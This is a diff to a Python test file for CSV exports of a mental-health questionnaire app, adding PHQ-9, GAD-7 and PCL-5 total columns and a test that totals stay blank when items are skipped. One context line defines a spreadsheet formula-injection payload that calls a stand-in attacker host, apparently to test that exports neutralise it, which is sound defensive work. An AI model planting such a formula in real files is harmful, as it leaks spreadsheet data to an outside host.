@@ -24,9 +24,18 @@ from questionnaire.models import Flag, Submission
 from questionnaire.questions import catalogue
 from questionnaire.references import format_reference as shown
 from tests.conftest import Clock
-from tests.exports import BLOOD_PRESSURE, NO_FLAGS, URGENT, load, make_clinician, submit
+from tests.exports import (
+    BLOOD_PRESSURE,
+    INSTRUMENTS,
+    NO_FLAGS,
+    URGENT,
+    load,
+    make_clinician,
+    submit,
+)
 
 FIRST_COLUMNS = ["reference", "submitted_at", "status", "highest_level", "outcome", "rules_version"]
+TOTALS = ["phq9_total", "gad7_total", "pcl5_total"]
 HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")'
 
 
@@ -40,7 +49,7 @@ def all_submissions() -> list[Submission]:
 
 def test_the_header_names_the_columns_then_every_item_in_order() -> None:
     [header] = csv.reader(io.StringIO("".join(submissions_csv([]))))
-    assert header == FIRST_COLUMNS + list(catalogue.ITEMS)
+    assert header == FIRST_COLUMNS + list(catalogue.ITEMS) + TOTALS
     [flag_header] = csv.reader(io.StringIO("".join(flags_csv([]))))
     assert (
         flag_header
@@ -201,3 +210,17 @@ def test_exports_stream_one_line_at_a_time(app: Flask) -> None:
         assert len(list(chunks)) == 1
         assert len(taken) == 2
         assert inspect.isgenerator(flags_csv([]))
+
+
+def test_the_instruments_totals_are_columns_empty_when_incomplete(app: Flask) -> None:
+    submit(app, INSTRUMENTS)
+    submit(app, NO_FLAGS)
+    with app.app_context():
+        answered, skipped = parse(submissions_csv(all_submissions()))
+    assert (answered["phq9_total"], answered["gad7_total"], answered["pcl5_total"]) == (
+        "14",
+        "",  # one GAD-7 item skipped: no score, never the partial 6
+        "20",
+    )
+    assert answered["phq9_9"] == "0" and answered["gad7_7"] == ""
+    assert (skipped["phq9_total"], skipped["gad7_total"], skipped["pcl5_total"]) == ("", "", "")
